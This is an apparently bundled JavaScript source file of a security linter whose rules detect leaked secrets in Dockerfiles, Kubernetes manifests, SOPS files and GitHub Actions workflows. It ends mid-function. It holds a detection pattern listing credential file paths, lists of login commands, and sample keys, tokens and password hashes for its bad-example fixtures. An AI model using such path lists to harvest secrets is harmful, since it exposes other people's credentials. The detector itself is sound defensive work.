const credentialFile = /(?:^|\/)(?:id_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?|[._]netrc|\.git-credentials|\.pgpass|\.pypirc|\.my\.cnf|\.dockercfg|\.vault-token|\.aws\/credentials|\.docker\/config\.json|\.kube\/config|kubeconfig|application_default_credentials\.json|\.config\/gh\/hosts\.yml|\.gem\/credentials|\.cargo\/credentials(?:\.toml)?|\.terraform\.d\/credentials\.tfrc\.json|[^/]*private[-_.]?key[^/]*\.(?:pem|key|der|p8)|(?:tls|ssl|server|client)\.key|[^/]+\.(?:kdbx|ppk))$/i;
const credentialNeeds = [
    [
        ...['id_', 'netrc', 'credentials', '.pgpass', '.pypirc', '.my.cnf', '.dockercfg', '.vault-token', 'config', 'hosts.yml', 'key'],
        ...['.kdbx', '.ppk'],
    ],
];
/** Its end says what a path is. */
const dockerfile_credentials_maxPath = 300;
/** Folders that hold such files beside others; as a target they say nothing. */
const credentialFolder = /(?:^|\/)\.(?:ssh|aws)\/?$/;
const folderNeeds = [['.ssh', '.aws']];
/** Variables that say where a program finds such a file. */
const credentialVariable = /^\$\{?(?:AWS_SHARED_CREDENTIALS_FILE|AWS_CONFIG_FILE|AWS_WEB_IDENTITY_TOKEN_FILE|GOOGLE_APPLICATION_CREDENTIALS|KUBECONFIG|NETRC|PGPASSFILE|DOCKER_AUTH_CONFIG)\}?$/;
/** Commands that keep what they are given in the home directory, by the program and its words with options left out. */
const logins = [
    /^gcloud auth (?:activate-service-account|login)\b/,
    /^(?:docker|podman|buildah|nerdctl|skopeo|oras|cosign) login\b/,
    /^(?:helm registry|crane auth|ko|regctl registry) login\b/,
    /^aws configure set (?:\S+\.)?aws_(?:secret_access_key|session_token)\b/,
    /^az login\b/,
    /^(?:gh|glab) auth login\b/,
    /^(?:npm|pnpm|yarn) (?:login|adduser)\b/,
    /^(?:npm|pnpm) config set \S*:?_(?:authToken|auth|password)\b/,
    /^yarn config set \S*(?:npmAuthToken|npmAuthIdent|_authToken)\b/,
    /^git config (?:\S+ )*?url\.https?:\/\/[^/@\s]+@/,
    /^pip[\d.]* config set \S*index-url \w+:\/\/[^/@\s:]+:[^/@\s]*@/,
    /^(?:bundle config set|bundle config) (?:\S+ )?\S+ [^\s:]+:\S+$/,
    /^composer config \S*(?:http-basic|github-oauth|gitlab-token|bearer)\b/,
    /^(?:vault|heroku|oc) login\b/,
    /^cargo login\b/,
];
/** What takes it away again before the layer is closed. */
const undone = /^(?:\S+ (?:\S+ )?(?:logout|revoke|unset)\b|git config (?:\S+ )*(?:--unset|--remove-section)|(?:npm|pnpm) config (?:delete|rm)\b|(?:rm|shred) .*(?:\.docker|gcloud|\.aws|\.azure|npmrc|gitconfig|netrc|credentials|\.config|\.kube|auth\.json|~|\$HOME|\/root))/;
/** The credentials that an instruction leaves in its layer: files that are copied, and programs that are logged in. */
function layerCredentials(instruction) {
    const { keyword, flags, words } = instruction;
    if (keyword === 'COPY' || keyword === 'ADD')
        return words
            .filter(({ span, value }, at) => {
            const path = instruction.expand(span).value.slice(-dockerfile_credentials_maxPath);
            return (((0,needs/* mayMatch */.B7)(path.toLowerCase(), credentialNeeds) && credentialFile.test(path)) ||
                (value.startsWith('$') && credentialVariable.test(value)) ||
                (at < words.length - 1 && (0,needs/* mayMatch */.B7)(path, folderNeeds) && credentialFolder.test(path)));
        })
            .slice(0, 1)
            .map(({ span, value }) => ({ span, what: value }));
    const isKept = flags.every(({ name, value }) => name !== 'mount' || !value?.includes('type=tmpfs'));
    if (keyword !== 'RUN' || !isKept)
        return [];
    const all = (0,dockerfile_commands/* invocations */.O)(instruction);
    if (all.some((each) => undone.test(spelt(each, true))))
        return [];
    return all
        .filter((each) => logins.some((form) => form.test(spelt(each, false))))
        .map(({ name, nameWord, args }) => {
        const verb = args.find(({ value }) => /^[a-z]+$/.test(value));
        return { span: { start: nameWord.span.start, end: (verb ?? nameWord).span.end }, what: `${name} ${verb?.value ?? ''}`.trimEnd() };
    });
}
/** More words than any such command has. */
const maxWords = 100;
function spelt({ name, args }, options) {
    const words = args.slice(0, maxWords).map(({ value }) => value.slice(0, dockerfile_credentials_maxPath));
    return [name, ...words.filter((value) => options || !value.startsWith('-'))].join(' ');
}

;// CONCATENATED MODULE: ./lib/rules/secret/in-image-layer.js




/* harmony default export */ const in_image_layer = ((0,rule/* defineRule */.Km)({
    id: 'secret/in-image-layer',
    severity: 'high',
    threat: 'secret',
    strictly: 'stages that the image is not built on, as low: their layers stay in the cache of the build.',
    summary: 'A build leaves a credential in a layer of the image',
    why: 'A layer keeps what one instruction has written, also where a later one deletes it: everybody who can pull the image, or the cache of the build, can take it out.',
    instead: 'Mount the file for the one command that needs it: `RUN --mount=type=secret,id=aws,target=/root/.aws/credentials …`, or `--mount=type=ssh` for keys. What the program needs is given to it when it is started.',
    references: [docker('build/building/secrets/', 'build secrets'), cwe(522), cwe(538), attack('T1552.001')],
    peers: ['trivy:DS-0031'],
    bad: {
        Dockerfile: 'FROM debian:13.1\nCOPY id_ed25519 /root/.ssh/id_ed25519\nRUN git clone git@git.example:shop/web.git /web\nUSER 1000\n',
    },
    good: { Dockerfile: 'FROM debian:13.1\nRUN --mount=type=ssh git clone git@git.example:shop/web.git /web\nUSER 1000\n' },
    on: 'dockerfile',
    *check({ stages }, { strict }) {
        const final = stages.at(-1);
        const shipped = new Set(final && lineage(final));
        for (const stage of stages) {
            // Layers of a stage that is thrown away stay in the cache only.
            if (!shipped.has(stage) && !strict)
                continue;
            // The same file in two places is one leak.
            const told = new Set();
            for (const instruction of stage.instructions)
                for (const { span, what } of layerCredentials(instruction)) {
                    if (told.has(what))
                        continue;
                    told.add(what);
                    const message = instruction.keyword === 'RUN'
                        ? `"${what}" leaves a credential in the layer`
                        : `"${what}" holds a credential and stays in the layer`;
                    yield { at: { span }, subject: stage.subject, message, ...(!shipped.has(stage) && { severity: 'low' }) };
                }
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/kubernetes-secret.js



/* harmony default export */ const kubernetes_secret = ((0,rule/* defineRule */.Km)({
    id: 'secret/kubernetes-secret',
    severity: 'high',
    threat: 'secret',
    supersedes: ['k8s/secret-manifest-committed'],
    summary: 'A Secret has its values in the repository',
    why: "base64 is no encryption: the manifest gives the value to whoever reads the repository, and the cluster's own access rules for Secrets no longer matter.",
    instead: 'Keep the values in a secret store and commit what refers to them (ExternalSecret, SecretProviderClass), or commit them encrypted (SealedSecret, SOPS). Change those that are in history.',
    references: [cwe(312), attack('T1552.007'), kubernetes('concepts/security/secrets-good-practices/', 'Good practices for Secrets')],
    confidential: true,
    bad: { 'secret.yaml': `apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\ndata:\n  password: ${'bVdxN0xy'}MnhWZEs5\n` },
    good: {
        'secret.yaml': `apiVersion: external-secrets.io/v1\nkind: ExternalSecret\nmetadata:\n  name: db\nspec:\n  secretStoreRef: { name: vault, kind: SecretStore }\n  data:\n    - secretKey: password\n      remoteRef: { key: shop/db, property: password }\n`,
    },
    on: 'namedValue',
    concerns: (named) => (0,judge/* judge */.S)(named) === 'kubernetes-secret',
    *check(named) {
        yield {
            at: named,
            message: `the value of "${named.name}" is readable${named.place === 'secret-data' ? ': base64 is no encryption' : ''}`,
            field: named.name,
        };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/password-argument.js




/* harmony default export */ const password_argument = ((0,rule/* defineRule */.Km)({
    id: 'secret/password-argument',
    severity: 'high',
    threat: 'secret',
    summary: 'A command is given a password as an argument',
    why: 'The password is in the repository, and where the command runs it is in the list of processes, the shell history and the build log.',
    instead: 'Change the password, and give it to the command by standard input, by a file or by a credential helper: `docker login --password-stdin`, `curl --netrc-file`, `MYSQL_PWD` from a secret.',
    references: [cwe(214), attack('T1552.001')],
    confidential: true,
    supersedes: ['secret/password', 'secret/default-password', 'secret/possible-credential'],
    bad: { 'deploy.sh': `curl -u deploy:${'q7Wz'}48LmPx https://files.internal/app.tar.gz\n` },
    good: { 'deploy.sh': 'curl --netrc-file /run/secrets/netrc https://files.internal/app.tar.gz\n' },
    on: 'credential',
    *check(credential) {
        if ((0,describe/* isPasswordArgument */.Vb)(credential))
            yield { at: credential, message: (0,describe/* describeCredential */.t8)(credential), advice: adviceOn(credential) };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/password-hash.js



/* harmony default export */ const password_hash = ((0,rule/* defineRule */.Km)({
    id: 'secret/password-hash',
    severity: 'medium',
    threat: 'secret',
    summary: 'The hash of a password is in the text',
    why: 'Who has the hash can try passwords at home, as many as the hardware allows; a password that people can remember does not last long.',
    instead: 'Keep hashes where passwords are kept, out of the repository. Change the password if it is in use anywhere.',
    references: [
        cwe(312),
        attack('T1110.002'),
        { title: 'crypt(5): storage format for hashed passphrases', url: 'https://man.archlinux.org/man/crypt.5' },
    ],
    confidential: true,
    supersedes: ['secret/password', 'secret/possible-credential'],
    bad: { htpasswd: `admin:$${'2y'}$10$eImiTXuWVxfM37uY4JANjQ1Nq8kDkE0vZ6rG4tBwLr2xVdK9sHc5m\n` },
    good: { 'htpasswd.sh': 'htpasswd -Bci /run/secrets/htpasswd admin < /run/secrets/password\n' },
    on: 'credential',
    *check(credential) {
        if ((0,describe/* isPasswordHash */.sP)(credential))
            yield { at: credential, message: (0,describe/* describeCredential */.t8)(credential) };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/password.js





/* harmony default export */ const secret_password = ((0,rule/* defineRule */.Km)({
    id: 'secret/password',
    severity: 'high',
    threat: 'secret',
    supersedes: ['dockerfile/secret-in-env-or-arg'],
    summary: 'A password or a key is written beside its name',
    why: 'Whoever can read the repository, a clone, a build log or the running configuration has it, and nothing tells when it is used. A value in version control is seldom changed.',
    instead: 'Change the value, since history keeps this one. Give the program a reference: `secretKeyRef` in Kubernetes, `secrets` and a `_FILE` variable in Compose, `--mount=type=secret` in a Dockerfile, `${{ secrets.NAME }}` in a workflow.',
    references: [cwe(798), attack('T1552.001'), kubernetes('concepts/configuration/secret/', 'Secrets')],
    confidential: true,
    bad: `DB_HOST=db.internal\nDB_PASSWORD=${'mWq7'}Lr2xVd\n`,
    good: 'DB_HOST=db.internal\nDB_PASSWORD_FILE=/run/secrets/db-password\n',
    on: 'namedValue',
    concerns: (named) => (0,judge/* judge */.S)(named) === 'password',
    *check(named) {
        const fix = referenceInstead(named);
        yield { at: named, fix, advice: adviceOnNamed(named, fix?.kept), message: `the value of "${named.name}" is written out` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/possible-credential.js




/* harmony default export */ const possible_credential = ((0,rule/* defineRule */.Km)({
    id: 'secret/possible-credential',
    severity: 'medium',
    threat: 'secret',
    strict: true,
    summary: 'A value that may be a credential stands beside a name that means one',
    why: 'Short keys, numbers and words can be credentials, and only a person can tell them from names and samples.',
    instead: 'If it is one, change it and refer to it; if it is none, a name that does not say `secret` or `key` tells the next reader.',
    references: [cwe(798), attack('T1552.001')],
    confidential: true,
    bad: `ENCRYPTION_KEY=${'blue'}-horse-41\n`,
    good: 'ENCRYPTION_KEY_FILE=/run/secrets/encryption-key\n',
    on: 'namedValue',
    concerns: (named) => (0,judge/* judge */.S)(named) === 'possible-credential',
    *check(named) {
        yield { at: named, fix: referenceInstead(named), message: `the value of "${named.name}" may be a credential` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/private-key.js



const header = `-----BEGIN ${'PRIVATE'} KEY-----`;
const footer = `-----END ${'PRIVATE'} KEY-----`;
const body = 'MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgevZzL1gdAFr88hb2\nOF/2NxApJCzGCEDdfSp6VQO30hyhRANCAAQRWz+jn65BtOMvdyHKcvjBeBSDZH2r\n1RTwjmYSi9R/zpBnuQ4EiMnCqfMPWiZqB4QdbAd0E7oH50VpuZ1P087G';
/* harmony default export */ const private_key = ((0,rule/* defineRule */.Km)({
    id: 'secret/private-key',
    severity: 'critical',
    threat: 'secret',
    summary: 'A private key is in the text',
    why: 'A private key proves an identity: whoever reads it can serve under the name in the certificate, log in where its public key is known, or sign as its owner.',
    instead: 'Make a new key pair where it is used, withdraw the certificate or the public key of this one, and mount the new key from a secret store.',
    references: [
        { title: 'CWE-321: Use of hard-coded cryptographic key', url: 'https://cwe.mitre.org/data/definitions/321.html' },
        { title: 'RFC 7468: Textual encodings of PKIX, PKCS, and CMS structures', url: 'https://www.rfc-editor.org/rfc/rfc7468' },
        { title: 'MITRE ATT&CK T1552.004: Private keys', url: 'https://attack.mitre.org/techniques/T1552/004/' },
    ],
    confidential: true,
    supersedes: ['secret/*', 'dockerfile/secret-in-env-or-arg'],
    bad: { 'server.key': `${header}\n${body}\n${footer}\n` },
    good: { 'server.pub': `-----BEGIN PUBLIC KEY-----\n${body.slice(66)}\n-----END PUBLIC KEY-----\n` },
    on: 'credential',
    *check(credential) {
        if ((0,describe/* isPrivateKey */.T_)(credential))
            yield { at: credential, message: (0,describe/* describeCredential */.t8)(credential), advice: adviceOn(credential) };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/secret/provider-token.js



/* harmony default export */ const provider_token = ((0,rule/* defineRule */.Km)({
    id: 'secret/provider-token',
    severity: 'critical',
    threat: 'secret',
    summary: 'A token that a provider issued is in the text',
    why: 'Whoever can read the repository, its forks, its clones or the logs of its builds can act as the owner of the token, and does not need to know what it is for.',
    instead: 'Revoke the token where it was issued, as a commit that is once pushed stays readable. Issue a new one, keep it in a secret store, and refer to it by name.',
    references: [
        { title: 'CWE-798: Use of hard-coded credentials', url: 'https://cwe.mitre.org/data/definitions/798.html' },
        {
            title: 'GitHub: Remediating a leaked secret in your repository',
            url: 'https://docs.github.com/en/code-security/how-tos/secure-your-secrets/work-with-leak-prevention/remediate-leaked-secrets',
        },
        { title: 'MITRE ATT&CK T1552.001: Credentials in files', url: 'https://attack.mitre.org/techniques/T1552/001/' },
    ],
    confidential: true,
    supersedes: ['secret/*', 'dockerfile/secret-in-env-or-arg'],
    bad: `DEPLOY_TOKEN=${'gh'}${'p_'}wqK8t2ZrN4vYb7LdX1sHc5mJf9GaPe3UoTi6\n`,
    good: 'DEPLOY_TOKEN_FILE=/run/secrets/deploy-token\n',
    on: 'credential',
    *check(credential) {
        if ((0,describe/* isProviderToken */.zd)(credential))
            yield { at: credential, message: (0,describe/* describeCredential */.t8)(credential), advice: adviceOn(credential) };
    },
}));

;// CONCATENATED MODULE: ./lib/credentials/sops.js
/** Which keys a file encrypts: SOPS writes into the file itself with which option that was chosen. Without any, those that do not end in `_unencrypted`. */
function encrypts(sops) {
    const option = (name) => sops.at(name)?.string;
    const [suffix, expression, notExpression] = [option('encrypted_suffix'), option('encrypted_regex'), option('unencrypted_regex')];
    if (suffix)
        return (keys) => keys.some((key) => key.endsWith(suffix));
    // An expression from the file is not run: of the usual form, words with `|` between them, it is read; of any other, nothing is said.
    if (expression)
        return keysOf(expression, (names, keys) => keys.some((key) => names.includes(key)));
    if (notExpression)
        return keysOf(notExpression, (names, keys) => !keys.some((key) => names.includes(key)));
    const clear = option('unencrypted_suffix') || '_unencrypted';
    return (keys) => !keys.some((key) => key.endsWith(clear));
}
function keysOf(expression, decide) {
    const alternatives = /^\^\(?([\w.|-]+)\)?\$$/.exec(expression)?.[1]?.split('|');
    return alternatives === undefined ? () => false : (keys) => decide(alternatives, keys);
}
/** The values that SOPS should have encrypted and that are in clear; none in a file that has no `sops` block. */
function* clearValues(root) {
    const sops = root?.at('sops');
    if (root?.kind !== 'map' || sops?.kind !== 'map' || sops.entry('mac') === undefined)
        return;
    const isMeant = encrypts(sops);
    for (const { key, value } of root.entries)
        if (key.string !== 'sops')
            yield* below(value, [key.string], isMeant, new Set());
}
function* below(node, keys, isMeant, seen) {
    if (node.kind === 'scalar') {
        // SOPS leaves empty values and nulls as they are.
        if (node.string !== '' && node.value !== null && !node.string.startsWith('ENC[') && isMeant(keys))
            yield { path: keys.join('.'), node };
        return;
    }
    if (seen.has(node))
        return;
    seen.add(node);
    if (node.kind === 'map')
        for (const { key, value } of node.entries)
            yield* below(value, [...keys, key.string], isMeant, seen);
    else
        for (const { value } of node.items)
            yield* below(value, keys, isMeant, seen);
}

;// CONCATENATED MODULE: ./lib/rules/secret/unencrypted-sops-value.js



/* harmony default export */ const unencrypted_sops_value = ((0,rule/* defineRule */.Km)({
    id: 'secret/unencrypted-sops-value',
    severity: 'high',
    threat: 'secret',
    summary: 'A file encrypted by SOPS has a value in clear',
    why: 'Somebody edited the encrypted file by hand: the value that was added is readable, in a file that everybody takes for safe, and SOPS will refuse to open it as its checksum is wrong.',
    instead: 'Change the value, since history keeps it, and set the new one with `sops edit` or `sops set`.',
    references: [
        cwe(312),
        attack('T1552.001'),
        { title: 'SOPS: Encrypting only parts of a file', url: 'https://getsops.io/docs/#encrypting-only-parts-of-a-file' },
    ],
    confidential: true,
    supersedes: ['secret/password', 'secret/default-password', 'secret/kubernetes-secret', 'secret/possible-credential'],
    bad: {
        'secrets.yaml': `user: ENC[AES256_GCM,data:Zm9v,iv:YmFy,tag:YmF6,type:str]\npassword: ${'mWq7'}Lr2xVd\nsops:\n  mac: ENC[AES256_GCM,data:Zm9v,iv:YmFy,tag:YmF6,type:str]\n  lastmodified: '2026-01-01T00:00:00Z'\n  version: 3.9.0\n`,
    },
    good: {
        'secrets.yaml': `user_unencrypted: shop\npassword: ENC[AES256_GCM,data:Zm9v,iv:YmFy,tag:YmF6,type:str]\nsops:\n  mac: ENC[AES256_GCM,data:Zm9v,iv:YmFy,tag:YmF6,type:str]\n  lastmodified: '2026-01-01T00:00:00Z'\n  version: 3.9.0\n`,
    },
    on: 'yaml',
    *check({ tree }) {
        for (const { path, node } of clearValues(tree.root)) {
            yield { at: node, message: `"${path}" is in clear in a file that SOPS encrypts`, field: path };
        }
    },
}));

// EXTERNAL MODULE: ./lib/documents/expression-paths.js
var expression_paths = __webpack_require__(1747);
;// CONCATENATED MODULE: ./lib/rules/workflow/all-secrets-exposed.js



/* harmony default export */ const all_secrets_exposed = ((0,rule/* defineRule */.Km)({
    id: 'workflow/all-secrets-exposed',
    severity: 'high',
    threat: 'secret',
    summary: 'A step gets every secret',
    why: 'The runner is given all secrets of the repository and its organization, so that any code of the job can read each of them.',
    instead: 'Name the one secret that is needed: `secrets.DEPLOY_TOKEN`.',
    references: [actions('reference/security/secure-use#use-secrets-for-sensitive-information', 'least privilege for secrets'), cwe(272)],
    peers: ['zizmor:overprovisioned-secrets', 'poutine:job_all_secrets'],
    bad: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: ./deploy
        env:
          SECRETS: \${{ toJSON(secrets) }}
`,
    good: `
on: push
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - run: ./deploy
        env:
          TOKEN: \${{ secrets.DEPLOY_TOKEN }}
`,
    on: 'workflowExpression',
    *check({ expression, placeOf }) {
        if (!expression)
            return;
        for (const { path, span, whole } of (0,expression_paths/* readPaths */.V)(expression)) {
            const [context, name] = path;
            if (context !== 'secrets')
                continue;
            const at = { span: placeOf(span) };
            if (name === undefined && whole)
                yield { at, message: '"toJSON(secrets)" writes out every secret' };
            else if (name === '*')
                yield { at, severity: 'medium', message: 'which secret is read is only known when the job runs: it gets all of them' };
        }
    },
}));

// EXTERNAL MODULE: ./lib/documents/expression.js + 1 modules
var expression = __webpack_require__(1236);
// EXTERNAL MODULE: ./lib/documents/expression-find.js
var expression_find = __webpack_require__(5960);
;// CONCATENATED MODULE: ./lib/rules/workflow/always-true-condition.js




/* harmony default export */ const always_true_condition = ((0,rule/* defineRule */.Km)({
    id: 'workflow/always-true-condition',
    severity: 'high',
    threat: 'access',
    summary: 'A condition always holds',
    why: 'Text around `${{ }}`, be it only the line break that a block keeps, makes the condition a string, and every string but the empty one is true: the guard does not guard.',
    instead: 'Write the whole condition without `${{ }}`, or as one `${{ }}` with nothing around it (`|-` and `>-` keep no line break).',
    references: [actions('reference/workflows-and-actions/workflow-syntax#jobsjob_idstepsif', 'if'), cwe(571)],
    peers: ['zizmor:unsound-condition', 'actionlint:if-cond', 'poutine:if_always_true'],
    bad: `
on: pull_request_target
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    if: \${{ github.repository == 'example/shop' }} && github.event.pull_request.merged
    steps:
      - run: make deploy
`,
    good: `
on: pull_request_target
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    if: github.repository == 'example/shop' && github.event.pull_request.merged
    steps:
      - run: make deploy
`,
    on: 'workflowExpression',
    *check(found) {
        const { scalar, path } = found;
        if (path.at(-1) !== 'if' || !isCondition(found))
            return;
        const fences = (0,expression_find/* fencesOf */.IE)(scalar);
        // A condition of several expressions is told once, with the first.
        if (fences[0] === undefined || found.placeOf(fences[0].span).start !== found.span.start)
            return;
        const alone = fences.length === 1 && fences[0].span.start === 0 && fences[0].span.end === scalar.string.length;
        if (alone)
            return;
        const blank = (0,expression_find/* parseCondition */.zB)(scalar.string) !== null;
        const message = blank
            ? 'the condition is a string, as a line break or a blank is around `${{ }}`'
            : 'the condition is a string, as text is around `${{ }}`';
        yield { at: scalar, field: 'if', identity: '', message: `${message}: it always holds`, fix: withoutFences(found, fences) };
    },
}));
/** `jobs.x.if` and `steps[n].if`; an input or a variable may be called so too. */
const isCondition = ({ path }) => path.length === 3 || typeof path.at(-2) === 'number';
function withoutFences({ scalar, placeOf }, fences) {
    let plain = '';
    let at = 0;
    for (const { span, text } of fences) {
        plain += `${scalar.string.slice(at, span.start)}(${text})`;
        at = span.end;
    }
    if ((0,expression/* parseExpression */.Y)(plain + scalar.string.slice(at)) === null)
        return undefined;
    // What is inside stays as it is written: it may have lines of its own.
    const edits = fences.flatMap(({ span, text }) => {
        const grouped = fences.length > 1 || /&&|\|\|/.test(text);
        const inner = span.start + scalar.string.slice(span.start, span.end).indexOf(text.trim());
        return [
            { span: placeOf({ start: span.start, end: inner }), text: grouped ? '(' : '' },
            { span: placeOf({ start: inner + text.trim().length, end: span.end }), text: grouped ? ')' : '' },
        ];
    });
    return scalar.style === 'double' || scalar.style === 'single' ? undefined : (0,rule/* unsafeFix */.ed)('Write the condition without `${{ }}`', ...edits);
}

;// CONCATENATED MODULE: ./lib/documents/known-actions.js
/** Repositories of actions that very many workflows use: what a name close to one of them is meant to be taken for. */
const popularActions = `
actions/attest-build-provenance actions/cache actions/checkout actions/configure-pages actions/create-github-app-token
actions/delete-package-versions actions/dependency-review-action actions/deploy-pages actions/download-artifact actions/first-interaction
actions/github-script actions/labeler actions/setup-dotnet actions/setup-go actions/setup-java actions/setup-node actions/setup-python
actions/stale actions/upload-artifact actions/upload-pages-artifact amannn/action-semantic-pull-request anchore/sbom-action anchore/scan-action
appleboy/scp-action appleboy/ssh-action aquasecurity/trivy-action astral-sh/ruff-action astral-sh/setup-uv aws-actions/amazon-ecr-login
aws-actions/amazon-ecs-deploy-task-definition aws-actions/configure-aws-credentials azure/cli azure/docker-login azure/k8s-set-context
azure/login azure/setup-helm azure/setup-kubectl azure/webapps-deploy benc-uk/workflow-dispatch bufbuild/buf-setup-action
changesets/action chromaui/action cloudflare/wrangler-action codecov/codecov-action coverallsapp/github-action crazy-max/ghaction-import-gpg
cypress-io/github-action dawidd6/action-download-artifact dependabot/fetch-metadata docker/bake-action docker/build-push-action docker/login-action
docker/metadata-action docker/setup-buildx-action docker/setup-docker-action docker/setup-qemu-action dorny/paths-filter dorny/test-reporter
dtolnay/rust-toolchain emibcn/badge-action erlef/setup-beam fluxcd/flux2 github/codeql-action golangci/golangci-lint-action google-github-actions/auth
google-github-actions/deploy-cloudrun google-github-actions/get-gke-credentials google-github-actions/setup-gcloud
googleapis/release-please-action goreleaser/goreleaser-action gradle/actions gradle/wrapper-validation-action hadolint/hadolint-action
hashicorp/setup-terraform helm/chart-releaser-action helm/chart-testing-action helm/kind-action jamesives/github-pages-deploy-action
jetli/wasm-pack-action jwalton/gh-find-current-pr lycheeverse/lychee-action marocchino/sticky-pull-request-comment
microsoft/setup-msbuild mikepenz/action-junit-report mikepenz/release-changelog-builder-action mxschmitt/action-tmate ncipollo/release-action
nick-fields/retry nuget/login nuget/setup-nuget nwtgck/actions-netlify ossf/scorecard-action oven-sh/setup-bun peaceiris/actions-gh-pages
peter-evans/create-issue-from-file peter-evans/create-or-update-comment peter-evans/create-pull-request peter-evans/find-comment
peter-evans/repository-dispatch peter-evans/slash-command-dispatch pnpm/action-setup pre-commit/action pypa/cibuildwheel
pypa/gh-action-pypi-publish pyo3/maturin-action reactivecircus/android-emulator-runner release-drafter/release-drafter
renovatebot/github-action ruby/setup-ruby rustsec/audit-check sigstore/cosign-installer slackapi/slack-github-action
snok/install-poetry softprops/action-gh-release sonarsource/sonarqube-scan-action step-security/harden-runner
stefanzweifel/git-auto-commit-action styfle/cancel-workflow-action subosito/flutter-action super-linter/super-linter
swatinem/rust-cache taiki-e/install-action tj-actions/changed-files trufflesecurity/trufflehog webfactory/ssh-agent
`
    .trim()
    .split(/\s+/);
/**
 * Repositories of actions that their owners have archived: nobody mends a flaw in them any more, and most ask for a runtime that is gone.
 * Each is marked as archived on GitHub.
 */
const archivedActions = new Set(`
8398a7/action-slack actions-rs/audit-check actions-rs/cargo actions-rs/clippy-check actions-rs/components-nightly actions-rs/grcov
actions-rs/install actions-rs/tarpaulin actions-rs/toolchain actions/create-release actions/setup-elixir actions/setup-haskell
actions/setup-ruby actions/upload-release-asset artichoke/setup-rust azure/appservice-actions azure/container-actions azure/container-scan
azure/get-keyvault-secrets azure/k8s-actions cedrickring/golang-action cirrus-actions/rebase contributor-assistant/github-action
crazy-max/ghaction-docker-buildx facebook/pysa-action gradle/gradle-build-action grafana/k6-action hashicorp/terraform-cdk-action
helaili/github-graphql-action helaili/jekyll-action ilshidur/action-slack jakejarvis/hugo-build-action jakejarvis/lighthouse-action
jakejarvis/s3-sync-action marvinpinto/action-automatic-releases maxheld83/ghpages paambaati/codeclimate-action repo-sync/pull-request
repo-sync/repo-sync secrethub/actions semgrep/semgrep-action sonarsource/sonarcloud-github-action stefanprodan/kube-tools
technote-space/auto-cancel-redundant-workflow technote-space/get-diff-action tibdex/github-app-token z0al/dependent-issues
`
    .trim()
    .split(/\s+/));

// EXTERNAL MODULE: ./lib/documents/scalar-offsets.js
var scalar_offsets = __webpack_require__(6481);
;// CONCATENATED MODULE: ./lib/rules/workflow/archived-action.js




/* harmony default export */ const archived_action = ((0,rule/* defineRule */.Km)({
    id: 'workflow/archived-action',
    severity: 'low',
    strict: true,
    threat: 'cve',
    summary: 'An action is no longer maintained',
    why: 'The repository of the action is archived: a flaw that is found in it, or in what it brings along, will not be mended.',
    instead: 'Use the action that its page names as the successor, or a command of the runner.',
    references: [
        {
            title: 'GitHub: archiving repositories',
            url: 'https://docs.github.com/en/repositories/archiving-a-github-repository/archiving-repositories',
        },
        cwe(1104),
    ],
    peers: ['zizmor:archived-uses'],
    bad: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions-rs/toolchain@16499b5e05bf2e26879000db0c1d13f7e13fa3af
`,
    good: `
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - run: rustup toolchain install stable
`,
    on: 'actionReference',
    *check({ owner, repository, node, document, job }) {
        const name = `${owner}/${repository}`;
        if (!archivedActions.has(name))
            return;
        const span = (0,scalar_offsets/* spanWithin */.Y)(node, document.text, { start: 0, end: name.length });
        yield { at: { span }, ...(job && { subject: job.subject }), identity: name, message: `"${name}" is archived` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/workflow/bypassable-contains-condition.js



/* harmony default export */ const bypassable_contains_condition = ((0,rule/* defineRule */.Km)({
    id: 'workflow/bypassable-contains-condition',
    severity: 'high',
    threat: 'access',
    summary: 'A condition looks for a name inside a string',
    why: '`contains` on a string finds any part of it: with "main,develop" a branch called "dev" or "a" is let through too.',
    instead: 'Look in a list: `contains(fromJSON(\'["main", "develop"]\'), github.ref_name)`.',
    references: [actions('reference/workflows-and-actions/expressions#contains', 'contains'), cwe(183)],
    peers: ['zizmor:unsound-contains'],
    bad: `
on: pull_request
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    if: contains('refs/heads/main refs/heads/develop', github.ref)
    steps:
      - run: make deploy
`,
    good: `
on: pull_request
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-24.04
    if: contains(fromJSON('["refs/heads/main", "refs/heads/develop"]'), github.ref)
    steps:
      - run: make deploy
`,
    on: 'workflowExpression',
    *check(found) {
        if (!found.expression || found.path.at(-1) !== 'if')
            return;
        for (const call of calls(found.expression)) {
            const [list, name] = call.arguments;
            if (call.name !== 'contains' || list?.kind !== 'literal' || typeof list.value !== 'string' || name?.kind !== 'access')
                continue;
            const [read] = (0,expression_paths/* readPaths */.V)(name);
            if (!read || !chosen.test(read.path.join('.')))
                continue;
            yield {
                at: { span: found.placeOf(list.span) },
                field: 'if',
                message: `any part of "${list.value}" is accepted as "${read.path.join('.')}"`,
                fix: fixFor(found, list.value, call),
            };
        }
    },
}));
/** Names that whoever starts the workflow can choose. */
const chosen = /^(?:github\.(?:ref|ref_name|head_ref|base_ref|actor|triggering_actor|repository|repository_owner)|env\.github_(?:ref|ref_name|head_ref|base_ref|actor))$/;
function* calls(expression) {
    if (expression.kind === 'operation')
        for (const operand of expression.operands)
            yield* calls(operand);
    if (expression.kind !== 'call')
        return;
    yield expression;
    for (const argument of expression.arguments)
        yield* calls(argument);
}
function fixFor({ placeOf, scalar }, list, { arguments: [written] }) {
    const names = list.split(/[\s,;|]+/).filter((name) => name !== '');
